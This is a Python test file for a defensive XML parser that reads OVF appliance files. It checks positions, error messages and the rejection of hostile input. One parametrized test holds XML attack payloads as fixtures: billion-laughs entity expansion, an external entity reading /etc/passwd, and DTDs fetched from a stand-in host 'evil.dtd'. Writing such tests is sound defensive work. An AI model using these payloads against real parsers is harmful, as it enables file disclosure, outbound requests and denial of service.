"""XML that may come from anyone: elements with their places, and a refusal for whatever could do harm."""

from __future__ import annotations

import tracemalloc

import pytest

from ryu_apps.evb.policy.diagnostic import Position
from ryu_apps.ovf.markup import (
    MAX_CHARACTERS,
    MAX_DEPTH,
    MAX_ELEMENTS,
    MarkupNode,
    read_markup,
    unwritable,
    write_markup,
)
from ryu_apps.ovf.names import EPASD, OVF
from tests.worlds.effort import calls


def refused(text: str) -> str:
    root, found = read_markup("x.ovf", text)
    assert root is None
    assert len(found) == 1
    return str(found[0])


def test_an_element_knows_where_it_stands() -> None:
    root, found = read_markup("x.ovf", "<?xml version='1.0'?>\n<a>\n  <b x='1'\n   y='2'>ä <c/>\n</b></a>\n")
    assert root is not None and found == []
    (b,) = root.children
    assert (b.place, b.end, b.children[0].place) == (Position(3, 3), Position(5, 1), Position(4, 12))
    assert (b.name, b.attributes, b.words) == (("", "b"), {("", "x"): "1", ("", "y"): "2"}, "ä")


def test_text_is_whole_however_it_is_cut_by_references_comments_and_sections() -> None:
    root, _ = read_markup("x.ovf", "<a>one &amp;<!-- not this --> t<![CDATA[w]]>o&#33;</a>")
    assert root is not None
    assert root.text == "one & two!"


def test_a_byte_order_mark_moves_no_column() -> None:
    root, _ = read_markup("x.ovf", "\ufeff<a/>")
    assert root is not None
    assert root.place == Position(1, 1)


@pytest.mark.parametrize(
    ("namespace", "known"),
    [
        ("http://schemas.dmtf.org/ovf/envelope/1", OVF),
        ("http://schemas.dmtf.org/ovf/envelope/2", OVF),
        (EPASD + ".xsd", EPASD),
        ("urn:example.xsd", "urn:example.xsd"),
    ],
)
def test_a_namespace_with_two_names_is_one(namespace: str, known: str) -> None:
    root, _ = read_markup("x.ovf", f"<a xmlns='{namespace}'/>")
    assert root is not None
    assert root.name == (known, "a")


@pytest.mark.parametrize(
    ("text", "complaint"),
    [
        ("", "1:1: not XML: no element found"),
        ("version: 1\n", "1:1: not XML: syntax error"),
        ("<a>\n<b>\n</a>", "3:3: not XML: mismatched tag"),
        ("<a>&nbsp;</a>", "1:4: not XML: undefined entity"),
        ("<a><x:b/></a>", "1:4: not XML: unbound prefix"),
        ("<a b='1' b='2'/>", "1:10: not XML: duplicate attribute"),
        ("<a>\x00</a>", "1:4: not XML: not well-formed (invalid token)"),
        ("<a>\ud800</a>", "1:4: not XML: not well-formed (invalid token)"),
        ("<a/>\n<a/>", "2:1: not XML: junk after document element"),
    ],
)
def test_what_is_not_xml_is_told_where(text: str, complaint: str) -> None:
    assert refused(text) == f"x.ovf:{complaint}"


LAUGHS = "".join(f"<!ENTITY l{level + 1} '{f'&l{level};' * 10}'>" for level in range(9))


@pytest.mark.parametrize(
    "declared",
    [
        "<!DOCTYPE a>",
        "<!DOCTYPE a [<!ENTITY l0 'ha'>" + LAUGHS + "]>",
        "<!DOCTYPE a [<!ENTITY l9 SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://192.0.2.1/evil.dtd'> %p;]>",
        "<!DOCTYPE a SYSTEM 'http://192.0.2.1/evil.dtd'>",
        "<!DOCTYPE a PUBLIC '-//EVIL//DTD' 'http://192.0.2.1/evil.dtd'>",
        "<!DOCTYPE a [<!ENTITY l9 '" + "A" * 100_000 + "'>]>",
        "<!DOCTYPE a [<!ATTLIST a b CDATA 'smuggled'>]>",
    ],
    ids=["none", "billion laughs", "file", "parameter", "external", "public", "quadratic", "default attribute"],
)
def test_a_document_type_declaration_is_refused_whatever_it_declares(declared: str) -> None:
    assert "a document type declaration is refused: it can declare entities" in refused(f"{declared}<a>&l9;</a>")


def test_nesting_is_bounded() -> None:
    deepest = "<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH
    assert read_markup("x.ovf", deepest)[0] is not None
    assert f"nested deeper than {MAX_DEPTH} levels" in refused(f"<a>{deepest}</a>")
    assert f"nested deeper than {MAX_DEPTH} levels" in refused("<a>" * 1_000_000)


def test_the_number_of_elements_is_bounded() -> None:
    assert f"more than {MAX_ELEMENTS} elements" in refused("<a>" + "<b/>" * MAX_ELEMENTS + "</a>")


def test_a_giant_is_refused_before_it_is_looked_at() -> None:
    giant = "<a>" + " " * MAX_CHARACTERS + "</a>"
    assert refused(giant) == f"x.ovf:1:1: file is larger than {MAX_CHARACTERS} characters"
    assert calls(lambda: refused(giant)) < 100


def test_what_is_refused_has_cost_little() -> None:
    tracemalloc.start()
    for text in ("<a>" * 1_000_000, "<!DOCTYPE a [<!ENTITY l0 'ha'>" + LAUGHS + "]><a>&l9;</a>"):
        refused(text)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 30_000_000


def test_what_was_written_is_read_as_it_was() -> None:
    said = 'a < b & "c"\r\n]]>'
    root, found = read_markup(
        "x.ovf", write_markup(MarkupNode("a", (MarkupNode("b", said),), (("ovf:name", said),)), {"ovf": OVF})
    )
    assert root is not None, found
    assert root.children[0].text == said
    assert root.attribute("name") == said


@pytest.mark.parametrize(
    ("text", "cannot"), [("ä\U0001f600\t\n", False), ("\x07", True), ("\ud800", True), ("\ufffe", True)]
)
def test_what_xml_cannot_say_is_known(text: str, cannot: bool) -> None:
    assert unwritable(text) is cannot
